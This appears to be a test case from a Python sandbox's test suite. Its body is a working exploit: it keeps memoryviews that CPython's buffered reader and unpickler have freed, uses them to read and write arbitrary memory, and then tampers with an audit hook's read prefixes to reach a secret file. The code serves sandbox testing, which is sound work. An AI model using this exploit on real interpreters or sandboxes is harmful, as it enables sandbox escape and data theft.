# expect: ok
# expect-kernel: ok
# value: 1
# C code that hands Python code a memoryview of memory it owns and frees, with no owner behind the view (`view.obj`
# is None): `_io`'s buffered reader passes its raw stream's `readinto` a view of its own buffer (CPython gh-60198,
# open since 2012), freed when the reader is collected, whether the raw stream is the code's own or the FileIO of
# `open()` with a `readinto` the code set on it (C looks an instance's own attributes up first, `vars()` included);
# the C unpickler passes a file's `readinto` a view of a new bytes object's storage, freed once the object is dropped.
# A view kept past the free overlays whatever takes the block next: here a bytearray's header, whose data pointer it
# then sets, so any address is read and written, with no audit event. From there the hook's frozen read prefixes (the
# frame of a refusal it makes unreported hands them out) gain "/", and the secret file is read where the hook is what
# guards it. With the hook no such view is left (1); without it native code is assumed anyway and Landlock holds (1).
import contextlib
import io
import os
import pickle

BLOCK = 56  # a bytearray's header: refcount, type, size, allocated, bytes, start, exports
START = 40  # the offset of its data start pointer
HELD = []  # every bytearray laid over a freed block (one of them becomes the window), kept for good
KEPT = []


def keep(view):
    KEPT.append(view)
    return 0


class Keeper(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        return keep(view)


class Source:
    """A file for the unpickler: a bytes opcode's 23-byte payload (a 56-byte block) is read into a view of its own."""

    def __init__(self):
        self.data, self.at = b"\x80\x04C\x17" + b"p" * 23 + b".", 0

    def read(self, n):
        chunk = self.data[self.at:self.at + n]
        self.at += len(chunk)
        return chunk

    def readline(self):
        return self.read(1)

    def readinto(self, view):
        KEPT.append(view)
        chunk = self.read(len(view))
        view[:len(chunk)] = chunk
        return len(chunk)


def raw_stream_of_its_own():
    reader = io.BufferedReader(Keeper(), buffer_size=BLOCK)
    reader.read(1)
    return 0  # the view starts at the block's start


def method_set_on_open_files_stream():
    with open("data", "wb") as fh:
        fh.write(b"d" * 4096)
    for how in ("attribute", "vars"):
        with open("data", "rb", buffering=BLOCK) as reader, contextlib.suppress(AttributeError, TypeError):
            if how == "attribute":
                reader.raw.readinto = keep
            else:
                vars(reader.raw)["readinto"] = keep
            reader.read(1)
        if KEPT:
            break
    return 0


def unpickled_bytes():
    value = pickle.Unpickler(Source()).load()
    del value
    return 32  # the view starts past the bytes object's header


def window(route):
    """A writable view over a bytearray's data start pointer, and that bytearray; None where no view dangles."""
    for _ in range(20):
        KEPT.clear()
        try:
            offset = route()
        except Exception:
            return None
        views = [v for v in KEPT if type(v) is memoryview and v.obj is None and not v.readonly and
                 len(v) + offset >= START + 8]
        if not views:
            return None
        view, at = views[0], START - offset
        victims = [bytearray(b"v" * 16) for _ in range(64)]
        HELD.append(victims)
        start = int.from_bytes(view[at:at + 8], "little")
        if int.from_bytes(view[at - 8:at], "little") != start:  # a bytearray's own and start pointers, alike
            continue
        view[at:at + 8] = (start + 1).to_bytes(8, "little")
        for victim in victims:
            if bytes(victim) == b"v" * 15 + b"\x00":
                return view, at, victim
        view[at:at + 8] = start.to_bytes(8, "little")
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    for route in (raw_stream_of_its_own, method_set_on_open_files_stream, unpickled_bytes):
        found = window(route)
        if found is None:
            continue
        if frame is None:  # no hook here: native code is assumed anyway
            return 1
        view, at, victim = found
        prefixes, root = frame.f_locals["read_prefixes"], "/"
        view[at:at + 8] = (id(prefixes) + 24).to_bytes(8, "little")  # the window over its first item
        victim[0:8] = id(root).to_bytes(8, "little")
        try:
            with open(secret_file) as fh:
                return "SANDBOX-ESCAPED " + route.__name__ + " " + fh.read()
        except OSError:
            return "SANDBOX-ESCAPED raw memory with the hook running, through " + route.__name__
    return 1
